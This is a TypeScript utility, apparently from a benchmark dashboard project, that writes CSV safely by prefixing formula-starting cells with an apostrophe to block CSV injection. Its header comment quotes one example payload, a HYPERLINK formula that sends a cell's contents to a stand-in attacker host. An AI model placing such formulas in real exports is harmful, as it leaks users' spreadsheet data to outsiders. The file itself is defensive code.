/**
 * CSV as spreadsheets open it safely. A cell that starts with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is a formula to Excel, LibreOffice and Google Sheets, and a tag value or a
 * dashboard title can be anything (`=HYPERLINK("https://evil.example/?"&A1, "click")`): such a
 * cell is written with a leading `'`, which shows it as text (OWASP's advice on CSV
 * injection). Plain numbers (`-1.5`, `-2e-7`) are left as they are. The backend's benchmark
 * export (`backend/app/benchmark_report.py`, also `vigil-bench export`) writes the same.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(?:(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|inf|nan|Infinity|NaN)$/;

/** `text` as a spreadsheet shows it: neutralised when it would start a formula. */
export function csvCell(text: string): string {
  return FORMULA_START.test(text) && !NUMBER.test(text) ? `'${text}` : text;
}

/** A CSV field (RFC 4180): neutralised (`csvCell`), then quoted when it holds a comma, a quote or a line break. */
export function csvField(text: string): string {
  const cell = csvCell(text);
  return /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}

/** Rows as CSV text, one line each, ending with a line break. */
export function csvText(rows: readonly (readonly string[])[]): string {
  return rows.map((row) => row.map(csvField).join(",")).join("\n") + "\n";
}
